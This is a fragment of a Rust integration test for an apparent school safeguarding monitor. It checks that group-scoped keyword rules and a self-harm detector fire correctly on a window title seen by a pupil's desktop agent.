    let folder = tempfile::tempdir().unwrap();
    // This test's user is a pupil in Year 7 (and SEN) in the directory.
    let directory = folder.path().join("mis.csv");
    std::fs::write(
        &directory,
        format!(
            "username,role,groups\n{},pupil,Year 7;SEN\nsomeone.else,pupil,Year 9\n",
            whoami()
        ),
    )
    .unwrap();
    let imported = data.cli(&[
        "directory",
        "import",
        "--site",
        "Cabot",
        directory.to_str().unwrap(),
    ]);
    assert!(imported.status.success(), "{}", text(&imported.stderr));
    let listed = text(&data.cli(&["directory", "list", "--site", "Cabot"]).stdout);
    assert!(listed.contains("sen;year-7"), "{listed}");
    let policy = folder.path().join("cabot.toml");
    std::fs::write(
        &policy,
        "extends = \"default\"\nignored_words = [\"Charlie\"]\n\
         [[rules]]\nid = \"year-7-only\"\ncategory = \"violence\"\nseverity = 3\ngroups = [\"Year 7\"]\nphrases = [\"zebra protocol\"]\n\
         [[rules]]\nid = \"year-9-only\"\ncategory = \"violence\"\nseverity = 3\ngroups = [\"year-9\"]\nphrases = [\"yellow submarine\"]\n\
         [[rules]]\nid = \"slang\"\ncategory = \"drugs\"\nseverity = 2\nphrases = [\"charlie\"]\n",
    )
    .unwrap();
    let saved = data.cli(&["policy", "set", "--site", "Cabot", policy.to_str().unwrap()]);
    assert!(saved.status.success(), "{}", text(&saved.stderr));

    let collector = data.start();
    let utmp = folder.path().join("utmp");
    let now = jiff::Timestamp::now().as_second();
    std::fs::write(
        &utmp,
        fixtures::utmp_record(&display, &whoami(), &display, now),
    )
    .unwrap();
    let agent = Agent::with_config_and_capture(
        &data.agent_settings(&collector, "e2e-groups"),
        &format!(
            "[sessions]\nsource = \"utmp\"\nutmp_path = \"{}\"\npoll_secs = 1\n",
            utmp.display()
        ),
        "",
    );
    agent.enroll();
    let _daemon = agent.start();
    let mut helper = start_helper(&agent, &display, &data.logs());
    // The session reaches the collector, which sends the device its
    // account's groups that the policy names (Year 7; SEN is named by no
    // rule, so the device never learns it); the daemon passes them to the
    // helper.
    wait_for(
        "the helper to hold the site policy and its groups",
        WAIT,
        || {
            helper.assert_running();
            let log = helper.stderr_text();
            log.lines()
                .any(|l| {
                    l.contains("policy received")
                        && l.contains("version=1")
                        && l.contains("groups=1")
                })
                .then_some(())
        },
    );
    let title = "Charlie: zebra protocol, yellow submarine, how to kill myself";
    let desktop = Desktop::connect(&display);
    desktop.show(title);
    let rules = || -> Vec<String> {
        let mut rules: Vec<String> = captures(&data)
            .iter()
            .filter(|c| c["window_title"] == title)
            .map(|c| c["rule_id"].as_str().unwrap_or("").to_owned())
            .collect();
        rules.sort();
        rules
    };
    wait_for("the title's captures", WAIT, || {
        helper.assert_running();
        (rules().len() >= 2).then_some(())
    });
    assert_eq!(
        rules(),
        ["self-harm-suicide", "year-7-only"],
        "the Year 7 rule fires, the Year 9 one and the ignored name do not"
    );
}
